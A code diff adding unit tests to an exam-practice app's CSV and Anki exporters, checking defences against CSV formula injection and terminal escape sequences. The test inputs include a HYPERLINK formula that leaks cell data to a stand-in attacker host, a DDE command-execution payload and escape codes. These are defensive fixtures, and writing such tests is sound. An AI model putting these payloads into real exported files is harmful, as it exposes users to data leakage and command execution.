@@ -74,6 +74,23 @@ describe('CSV export', () => {
     expect(parsed).toHaveLength(2);
   });
 
+  it('keeps every cell a spreadsheet would run as a formula as text, with a leading apostrophe', () => {
+    for (const cell of ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1']) {
+      expect(readCsv(`${csvField(cell)}\r\n`)[0]![0]).toBe(`'${cell}`);
+    }
+    const hostile = question({ stem: '=HYPERLINK("http://evil.example")', explanation: '=1+1', choices: [{ text: '+cmd', correct: true }, { text: '@SUM(1)', correct: false }] });
+    const row = readCsv(toCsv(exportRows([hostile], [], [{ ...miss, chosen: ['-crafted'] }])))[1]!;
+    expect(row[3]).toBe(`'=HYPERLINK("http://evil.example")`);
+    expect(row[6]).toBe("'=1+1");
+    expect(row[9]).toBe("'-crafted");
+    expect(csvField('A. plain')).toBe('A. plain');
+  });
+
+  it('prints a chosen answer from a hand-edited log as text only', () => {
+    const [row] = exportRows([question()], [], [{ ...miss, chosen: ['\u001b]0;PWNED-CHOSEN\u0007\u001b[2Jsome text'] }]);
+    expect(row!.lastWrongAnswer).toBe('some text');
+  });
+
   it('uses the imported explanation and reference for imported questions', () => {
     const imported = question({ explanation: undefined, source: undefined, facts: [], imported: { file: 'exam1.md', line: 17, position: 2, explanation: 'From the source.' } });
     const [row] = exportRows([imported], []);
@@ -107,6 +124,12 @@ describe('Anki export', () => {
     expect(back).toContain('Source: <a href="https://docs.aws.amazon.com/apigateway/">https://docs.aws.amazon.com/apigateway/</a>');
     expect(tags).toBe('clf-trainer::caching clf-trainer::missed');
     expect(lines[5]!.split('\t')[1]).toContain('<b>Answer: A, B</b>');
+  });
+
+  it('never starts a note with "#", which Anki would skip as a comment', () => {
+    const notes = toAnki(exportRows([question({ stem: '#1 Which service hosts static sites?' })], [])).split('\n').slice(ANKI_HEADER.length).filter(Boolean);
+    expect(notes).toHaveLength(1);
+    expect(notes[0]!.startsWith('&#35;1 Which service hosts static sites?')).toBe(true);
   });
 
   it('escapes HTML and never leaves a raw tab, newline or quote in a field', () => {
